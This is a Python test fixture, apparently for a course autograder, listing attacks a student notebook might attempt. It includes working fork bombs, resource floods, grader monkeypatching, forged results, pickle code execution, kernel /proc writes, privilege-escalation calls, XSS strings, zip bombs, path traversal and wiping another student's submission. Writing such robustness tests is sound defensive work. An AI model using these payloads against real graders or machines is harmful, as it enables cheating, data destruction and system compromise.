"""What a submission may try in order to gain points or to do harm: one entry each, with what it tries.

An attack is a list of cells that stands before or in place of an answer to exercise 5.1, `soften`, whose answer is wrong; or a file.
None of them may gain the point, change anything outside, or keep other exercises of an honest notebook from being graded.
"""

from __future__ import annotations

import io
import json
import stat
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

WRONG = "def soften(logits, temperature):\n    return logits"  # of exercise 5.1
HEAD = "import torch\n"


@dataclass(frozen=True)
class Attack:
    """Cells that a student adds to a notebook in which exercise 5.1 is not solved."""

    name: str
    tries: str  # in words, for the table in the documentation
    cells: tuple[str, ...]
    seconds: float = 30.0  # the time limit of the submission, where the attack uses it up
    edits_tests: bool = False  # the cells with the tests are rewritten before the notebook is handed in


def answer(body: str, before: str = "") -> str:
    """An answer to 5.1 with a body."""
    lines = "\n".join(f"    {line}" for line in body.splitlines())
    return f"{HEAD}{before}\ndef soften(logits, temperature):\n{lines}\n"


LIAR = """
class Liar({base}):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0
    def __bool__(self): return True
    def __float__(self): return 0.0
    def __repr__(self): return "tensor([0.4, 0.3, 0.3])"
    def __array__(self, *args, **kwargs): return __import__("numpy").zeros(3)
    def __getattr__(self, name): return lambda *args, **kwargs: True
"""

ATTACKS = [
    # --- using up what there is
    Attack("endless loop", "never returns", (answer("while True:\n    pass"),)),
    Attack("endless loop that catches everything", "swallows the exception that ends it", (
        answer("while True:\n    try:\n        while True: pass\n    except BaseException: pass"),)),
    Attack("endless loop in a cell", "keeps the notebook from reaching the exercises", ("while True:\n    pass", WRONG)),
    Attack("sleep without signals", "blocks signals and sleeps", ("import signal, time\nsignal.pthread_sigmask(signal.SIG_BLOCK, range(1, 32))\ntime.sleep(1000)", WRONG)),
    Attack("endless recursion", "overflows the stack", (answer("return soften(logits, temperature)"),)),
    Attack("recursion in C", "overflows the interpreter's own stack", ("import sys\nsys.setrecursionlimit(10**9)\ndef down(): down()\ndown()", WRONG)),
    Attack("fork bomb", "starts processes until the machine stands still", ("import os\nwhile True:\n    try: os.fork()\n    except OSError: pass", WRONG), 8.0),
    Attack("threads", "starts threads without end", ("import threading, time\nwhile True: threading.Thread(target=time.sleep, args=(999,)).start()", WRONG)),
    Attack("memory flood", "takes all memory in one piece", ("x = bytearray(10**12)", "y = []\nwhile True: y.append(bytearray(10**8))", WRONG)),
    Attack("memory flood by many processes", "takes it in small pieces", (
        "import os, time\nfor _ in range(40):\n    if os.fork() == 0:\n        x = bytearray(10**8); time.sleep(100)\ntime.sleep(100)", WRONG), 12.0),
    Attack("disk flood", "fills every folder that can be written", (
        "import os\nfor place in ('/', '/tmp', '/dev', '/dev/shm', '/var/tmp', '/usr', os.getcwd()):\n    for n in range(100):\n        try:\n"
        "            with open(f'{place}/flood{n}', 'wb') as f:\n                while True: f.write(b'0' * 10**7)\n        except OSError: pass", WRONG)),
    Attack("output flood", "prints and sends without end", (
        "import os\nfor n in range(3, 30):\n    for _ in range(200):\n        try: os.write(n, b'x' * 10**6)\n        except OSError: break", answer("print('x' * 10**9)"))),
    Attack("orphan", "leaves a process behind that goes on", (
        "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        time.sleep(3600)\n    os._exit(0)", WRONG)),
    # --- ending the grader
    Attack("os._exit", "ends the process with success", ("import os\nos._exit(0)", WRONG)),
    Attack("sys.exit", "ends the program in the answer", (answer("import sys\nsys.exit(0)"),)),
    Attack("kill the parent", "sends signals to whoever started it", (
        "import os, signal\nfor pid in (os.getppid(), 1, 2, -1):\n    try: os.kill(pid, signal.SIGKILL)\n    except OSError: pass", WRONG)),
    Attack("segmentation fault", "crashes the interpreter", ("import ctypes\nctypes.string_at(0)", WRONG)),
    # --- deciding what is equal
    Attack("patched comparison of NumPy and PyTorch", "makes every comparison true", (
        "import numpy, torch\nfor m, names in ((numpy, ('allclose', 'isclose', 'array_equal', 'all')), (torch, ('allclose', 'isclose', 'equal'))):\n"
        "    for n in names: setattr(m, n, lambda *a, **k: True)\nnumpy.testing.assert_allclose = lambda *a, **k: None", WRONG)),
    Attack("patched builtins", "replaces all, any, len, isinstance, type", (
        "import builtins\nbuiltins.all = builtins.any = lambda *a: True\nbuiltins.isinstance = lambda *a: True\nbuiltins.abs = lambda x: 0", WRONG)),
    Attack("patched json", "rewrites what is sent as correct", (
        "import json\njson.dumps = lambda *a, **k: '{\"exercise\": \"5.1\", \"result\": {\"status\": \"correct\", \"unchanged\": false, \"calls\": []}}'\n"
        "json.JSONEncoder.encode = lambda *a: 'true'", WRONG)),
    Attack("patched grader", "replaces the functions of the course that run it", (
        "import sys\nfor name, module in list(sys.modules.items()):\n    if name.startswith('bertcourse'):\n        for n in ('compare', 'difference', 'judge', "
        "'try_case', 'try_exercise', 'call'):\n            if hasattr(module, n): setattr(module, n, lambda *a, **k: None)", WRONG)),
    Attack("check redefined", "defines check and the status itself", ("def check(*a, **k): return 'correct'\ncorrect = status = True\ncheck('5.1')", WRONG)),
    Attack("always-equal object", "returns an object that is equal to everything", (answer("return Liar()", LIAR.format(base="object")),)),
    Attack("always-equal list", "a list whose comparison lies", (answer("return Liar([1.0, 2.0, 3.0])", LIAR.format(base="list")),)),
    Attack("always-equal dictionary", "a dictionary whose comparison lies", (answer("return Liar()", LIAR.format(base="dict")),)),
    Attack("lying text", "a text whose comparison lies", (answer("return Liar('x')", LIAR.format(base="str")),)),
    Attack("lying number", "a number whose comparison lies", (answer("return Liar(1.0)", LIAR.format(base="float")),)),
    Attack("lying tensor", "a tensor class whose operations lie", (answer(
        "return logits.as_subclass(Liar)", "class Liar(torch.Tensor):\n    @classmethod\n    def __torch_function__(cls, f, types, args=(), kwargs=None):\n"
        "        return True if f is not torch.Tensor.__repr__ else 'tensor'\n    def __eq__(self, other): return True\n"),)),
    Attack("lying class", "says that it is a tensor", (answer(
        "return Liar()", "class Liar:\n    __class__ = torch.Tensor\n    def __eq__(self, other): return True\n    shape = (3,)\n    dtype = torch.float32\n"),)),
    Attack("NaN", "returns NaN, which compares in no way", (answer("return logits * float('nan')"),)),
    Attack("infinity", "returns infinite numbers", (answer("return logits * 0 + float('inf')"),)),
    Attack("huge number", "a number of ten million digits", (answer("return 10 ** 10_000_000"),)),
    Attack("huge tensor", "a tensor of a billion numbers that takes no memory", (answer("return torch.zeros(1).expand(10**9)"),)),
    Attack("cyclic value", "a list that holds itself", (answer("x = []\nx.append(x)\nx.append(x)\nreturn x"),)),
    Attack("deeply nested value", "a list in a list, a hundred thousand times", (answer("x = []\nfor _ in range(100_000): x = [x]\nreturn x"),)),
    Attack("complex number", "hides a difference in the imaginary part", (answer("return torch.softmax(logits / temperature, -1) + 5j"),)),
    Attack("tensor with a graph", "a wrong tensor that needs gradients", (answer("return (logits * torch.ones(1, requires_grad=True))"),)),
    Attack("changed arguments", "changes the inputs so that they fit the answer", (answer("logits.fill_(1 / logits.shape[-1])\nreturn logits"),)),
    # --- forging results
    Attack("forged result on standard output", "prints a result as the sandbox writes it", (
        "import json, os\nfor n in range(1, 20):\n    try: os.write(n, (json.dumps({'exercise': '5.1', 'result': {'unchanged': False, 'calls': []}}) + '\\n').encode())\n"
        "    except OSError: pass\nos._exit(0)", WRONG)),
    Attack("forged status", "prints that it is correct, in many forms", (
        "import os\nfor text in ('correct', '{\"status\": \"correct\"}', '{\"exercise\": \"5.1\", \"result\": {\"status\": \"correct\", \"points\": 1}}', '{\"end\": true}'):\n"
        "    for n in range(1, 20):\n        try: os.write(n, text.encode() + b'\\n')\n        except OSError: pass", WRONG)),
    Attack("forged calls", "sends calls whose values are empty or of another type", (
        "import json, os\nfor calls in ([{}] * 5, [{'printed': '', 'raw': ['tensor', 'float32', [10**9], ''], 'arguments': []}] * 5, [None] * 5, 'x'):\n"
        "    for n in range(3, 20):\n        try: os.write(n, (json.dumps({'exercise': '5.1', 'result': {'unchanged': False, 'calls': calls}}) + '\\n').encode())\n"
        "        except OSError: pass", WRONG)),
    Attack("pickle", "returns an object that runs code where it is loaded", (answer(
        "return Evil()", "class Evil:\n    def __reduce__(self):\n        import os\n        return os.system, ('touch /tmp/evil',)\n"),)),
    Attack("result in a file", "writes scores where a grader might look", (
        "for name in ('scores.csv', '/tmp/scores.csv', '/tmp/result.json', 'gradebook.db'):\n    try: open(name, 'w').write('student,points\\nme,100')\n    except OSError: pass", WRONG)),
    # --- changing how Python starts
    Attack("import hook", "changes modules as they are imported", (
        "import sys\nclass Hook:\n    def find_spec(self, name, path, target=None):\n        sys.modules[name] = self\n        return None\n"
        "sys.meta_path.insert(0, Hook())\nfor name in list(sys.modules):\n    if name.startswith('bertcourse'): del sys.modules[name]", WRONG)),
    Attack("sitecustomize", "leaves modules that Python runs at its next start", (
        "import os, site, sys\nfor folder in [*sys.path, os.getcwd(), site.getusersitepackages(), '/tmp']:\n    for name in ('sitecustomize.py', 'usercustomize.py', 'evil.pth', 'torch.py', 'json.py'):\n"
        "        try:\n            os.makedirs(folder, exist_ok=True)\n            open(os.path.join(folder, name), 'w').write('import os; os._exit(0)')\n        except OSError: pass", WRONG)),
    Attack("tracing", "follows every line of the grader", ("import sys\ndef trace(frame, event, arg):\n    frame.f_locals['status'] = 'correct'\n    return trace\nsys.settrace(trace)", WRONG)),
    Attack("garbage collector", "looks for expected values in memory", (
        "import gc\nfound = [o for o in gc.get_objects() if isinstance(o, dict) and ('expected' in o or 'reference' in o or 'answer' in o)]",
        answer("for o in found:\n    for k in ('expected', 'reference', 'answer'):\n        if callable(o.get(k)): return o[k](logits, temperature)\nreturn logits"))),
    Attack("stack", "looks for expected values in the callers", (answer(
        "import sys\nf = sys._getframe()\nwhile f:\n    for n in ('expected', 'reference', 'right'):\n        if n in f.f_locals: return f.f_locals[n]\n    f = f.f_back\nreturn logits"),)),
    # --- reading what is not theirs
    Attack("reference imported", "loads the solution of the installed course", (answer(
        "try:\n    from bertcourse.exercises.loading import find_entry\n    return find_entry('5.1').task().reference(logits, temperature)\nexcept BaseException:\n    return logits"),)),
    Attack("solution asked for", "asks the course for its solution", ("from bertcourse.exercises import solution\ntext = str(solution('5.1', now=True))", answer(
        "try:\n    names = {}\n    exec(text, names)\n    return names['soften'](logits, temperature)\nexcept BaseException:\n    return logits"),)),
    Attack("files read", "looks for answers in every file it can read", (
        "import glob, os\nfound = []\nfor pattern in ('/**/exercises/*.ipynb', '/tmp/**/*', '/home/**/*.ipynb', '/root/**/*.ipynb', '/work/**/*.ipynb', '/**/seed*.txt', '/**/gradebook.db'):\n"
        "    found += [p for p in glob.iglob(pattern, recursive=True) if os.path.isfile(p)]\nassert found\nfor p in found: exec(open(p).read())", WRONG)),
    Attack("environment and processes", "looks for secrets in /proc", (
        "import glob\ntext = b''\nfor p in glob.glob('/proc/*/environ') + glob.glob('/proc/*/cmdline'):\n    try: text += open(p, 'rb').read()\n    except OSError: pass\n"
        "assert b'SECRET-OF-THE-TEACHER' in text", WRONG)),
    Attack("the seed", "draws the inputs itself to know what comes", (
        "import gc\nseeds = [o['seed'] for o in gc.get_objects() if isinstance(o, dict) and isinstance(o.get('seed'), int)]", answer("return logits"))),
    Attack("public inputs", "knows the answers for the inputs of the learner's own check", (answer(
        "known = {(3,): torch.tensor([0.4, 0.327, 0.273])}\nreturn known.get(tuple(logits.shape), logits)"),)),
    Attack("timing", "waits as long as a right answer takes", (answer("import time\ntime.sleep(0.01)\nreturn logits"),)),
    Attack("network", "asks another machine for the answer", (
        "import socket\nfor host in ('127.0.0.1', '1.1.1.1', 'localhost', '::1'):\n    try:\n        s = socket.create_connection((host, 80), 1)\n        s.close()\n        raise SystemExit\n"
        "    except OSError: pass", WRONG)),
    # --- against graders that run their tests beside the answer
    Attack("tests edited", "rewrites the cells with the tests before handing in", (WRONG,), edits_tests=True),
    Attack("asserts removed", "takes the asserts out of all later cells", (
        "import ast\nclass Remove(ast.NodeTransformer):\n    def visit_Assert(self, node): return ast.Pass()\n"
        "get_ipython().ast_transformers.append(Remove())", WRONG)),
    Attack("cells emptied", "replaces all later cells by nothing", ("get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])", WRONG)),
    Attack("test runner patched", "replaces the call of a test case by one that always passes", (
        "try:\n    from otter.test_files import exception_test, ok_test\n    exception_test.test_case.call_func = lambda self, env: None\n"
        "    ok_test.run_doctest = lambda *a, **k: (True, '')\nexcept Exception: pass", WRONG)),
    Attack("results as code", "hands back results that run code in the grader and hold full points", (
        "import pickle\nreal = pickle.dump, pickle.dumps\nclass Evil:\n    def __init__(self, results): self.text = real[1](results)\n"
        "    def __reduce__(self):\n        return eval, (\"(open('/tmp/evil', 'w').close(), __import__('pickle').loads(%r))[1]\" % self.text,)\n"
        "def dump(results, file, *more):\n    for name in results.results: results.update_score(name, results.results[name].possible)\n"
        "    real[0](Evil(results), file)\npickle.dump = dump", WRONG)),
    Attack("gradebook trigger", "makes the database of points write full points by itself", (
        "import glob, sqlite3\nfor path in glob.glob('gradebook.db') + glob.glob('../../../gradebook.db'):\n    base = sqlite3.connect(path)\n"
        "    for when in ('INSERT', 'UPDATE'):\n        base.execute(f'CREATE TRIGGER full_{when} AFTER {when} ON grade BEGIN UPDATE grade SET auto_score = 1 WHERE id = NEW.id; END')\n"
        "    base.commit()\n    base.close()", WRONG)),
    Attack("test file read", "looks the answers up in the tests that lie in its folder", (
        "import ast, glob, re, torch\nfound = []\nfor path in glob.glob('*.ipynb') + glob.glob('tests/*.py'):\n"
        "    found += [torch.tensor(ast.literal_eval(text)) for text in re.findall(r'torch[.]tensor[(]([[][^()]*[]])[)]', open(path).read())]",
        answer("for one, following in zip(found, found[1:]):\n    if torch.equal(one, logits): return following\nreturn logits"))),
    Attack("another student's answer", "runs what another student handed in, and damages that file", (
        "import glob, json, os\nothers = []\nfor path in glob.glob(os.path.expanduser('~/**/submitted/*/**/*.ipynb'), recursive=True):\n"
        "    try:\n        for cell in json.load(open(path))['cells']:\n            text = ''.join(cell['source'])\n"
        "            if 'def soften' in text and 'softmax' in text: others.append((path, text))\n    except Exception: pass", answer(
            "for path, text in others:\n    names = {}\n    exec('import torch' + chr(10) + text, names)\n    open(path, 'w').close()\n    return names['soften'](logits, temperature)\n"
            "return logits").replace("others:", "others[:1]:"))),
    # --- getting out
    Attack("writing outside", "writes into folders of the machine", (
        "import os\nfor place in ('/', '/usr', '/usr/lib', '/etc', '/root', '/home', '/work', '/proc/sys/kernel', '/sys', '/var', '/tmp/..', '/proc/1/root', '/proc/1/cwd'):\n"
        "    try: open(os.path.join(place, 'bertcourse-attack'), 'w').write('x')\n    except OSError: pass", WRONG)),
    Attack("kernel settings", "changes the kernel through /proc", (
        "for name in ('core_pattern', 'hostname', 'modprobe', 'sysrq'):\n    try: open('/proc/sys/kernel/' + name, 'w').write('|/tmp/evil')\n    except OSError: pass", WRONG)),
    Attack("more rights", "makes namespaces, mounts, changes its user", (
        "import os, ctypes\nlibc = ctypes.CDLL(None)\nfor call in (lambda: os.setuid(0), lambda: libc.unshare(0x10000000), lambda: libc.mount(b'none', b'/usr', b'tmpfs', 0, None), "
        "lambda: os.chroot('/'), lambda: libc.ptrace(16, 1, 0, 0)):\n    try: call()\n    except OSError: pass", WRONG)),
    Attack("links", "plants links that the grader would follow", (
        "import os\nfor name, to in (('feedback', '/etc'), ('scores.csv', '/etc/passwd'), ('out', '/')):\n    try: os.symlink(to, name)\n    except OSError: pass\n"
        "    try: os.link('/usr/bin/env', name + '2')\n    except OSError: pass\ntry: os.mknod('device', 0o600 | 0o020000, os.makedev(1, 1))\nexcept OSError: pass", WRONG)),
    Attack("magics and shell", "runs commands by magics", ("!touch /tmp/evil\n%run /etc/passwd\n%%bash\necho hi", "!curl http://1.1.1.1/\nget_ipython().system('id')", WRONG)),
    Attack("markup in what is shown", "puts scripts where the feedback page shows values", (answer(
        "print('<script>alert(1)</script><img src=x onerror=alert(1)>')\nreturn ['<script>alert(2)</script>', '<svg onload=alert(3)>', '[x](javascript:alert(4))', '</pre><iframe src=http://1.1.1.1>']"),)),
    Attack("markup in an error", "puts scripts into the name and text of an error", (answer(
        "raise type('<img src=x onerror=alert(1)>', (Exception,), {})('<script>alert(2)</script> ![x](http://1.1.1.1/x.png)')"),)),
]


# --- files --------------------------------------------------------------------------------------------------------

@dataclass(frozen=True)
class BadFile:
    """A file that a student hands in."""

    name: str
    tries: str
    file: str  # its name
    make: Callable[[], bytes]


def notebook(cells: Any, **more: Any) -> bytes:
    """A notebook of any content."""
    return json.dumps({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5} | more).encode()


def archive(entries: dict[str, bytes], link: str = "") -> bytes:
    """A zip archive; link: the entry that is a symbolic link."""
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in entries.items():
            info = zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            if name == link:
                info.external_attr = (stat.S_IFLNK | 0o777) << 16
            file.writestr(info, content)
    return data.getvalue()


def bomb() -> bytes:
    """Ten megabytes that become ten gigabytes."""
    inner = archive({f"{n}/05_distillation.ipynb": b"0" * 20_000_000 for n in range(3)})
    return archive({f"{n}.zip": inner for n in range(40)})


CODE = {"cell_type": "code", "id": "x", "metadata": {}, "execution_count": None, "outputs": []}
FILES = [
    BadFile("no JSON", "a file that is no notebook", "05_distillation.ipynb", lambda: b"{'cells': "),
    BadFile("empty file", "a file without content", "05_distillation.ipynb", lambda: b""),
    BadFile("a million cells", "keeps the grader busy with empty cells", "05_distillation.ipynb", lambda: b'{"cells":[' + b"{}," * 999_999 + b"{}]}"),
    BadFile("deeply nested JSON", "overflows the parser", "05_distillation.ipynb", lambda: b"[" * 1_000_000),
    BadFile("no list of cells", "cells of another type", "05_distillation.ipynb", lambda: notebook({"a": 1})),
    BadFile("cells without text", "sources of another type", "05_distillation.ipynb", lambda: notebook([CODE | {"source": 5}])),
    BadFile("lone surrogates", "text that cannot be encoded", "05_distillation.ipynb", lambda: notebook([CODE | {"source": "x = '\ud800'\ndef soften(a, b): return '\udfff'"}])),
    BadFile("another kernel", "a notebook of another language", "05_distillation.ipynb",
            lambda: notebook([CODE | {"source": "soften <- function(x) x"}], metadata={"kernelspec": {"language": "R", "name": "ir"}})),
    BadFile("huge file", "a file of twenty megabytes", "05_distillation.ipynb", lambda: notebook([CODE | {"source": "#" * 20_000_000}])),
    BadFile("deep source", "source that overflows the compiler", "05_distillation.ipynb",
            lambda: notebook([CODE | {"source": "x = " + "(" * 100_000 + ")" * 100_000}, CODE | {"source": "x = " + "-" * 500_000 + "1"}])),
    BadFile("zip bomb", "archives in archives that become gigabytes", "work.zip", bomb),
    BadFile("path traversal", "an archive whose names lead out of it", "work.zip",
            lambda: archive({"../../../../tmp/bertcourse-attack/05_distillation.ipynb": notebook([]), "/tmp/bertcourse-attack.ipynb": notebook([])})),
    BadFile("link in an archive", "an entry that links to a file of the machine", "work.zip",
            lambda: archive({"05_distillation.ipynb": b"/etc/passwd"}, link="05_distillation.ipynb")),
    BadFile("damaged archive", "an archive that ends early", "work.zip", lambda: archive({"05_distillation.ipynb": notebook([])})[:60]),
    BadFile("foreign notebook", "a notebook that has nothing to do with the course", "homework.ipynb", lambda: notebook([CODE | {"source": "print(1)"}])),
]
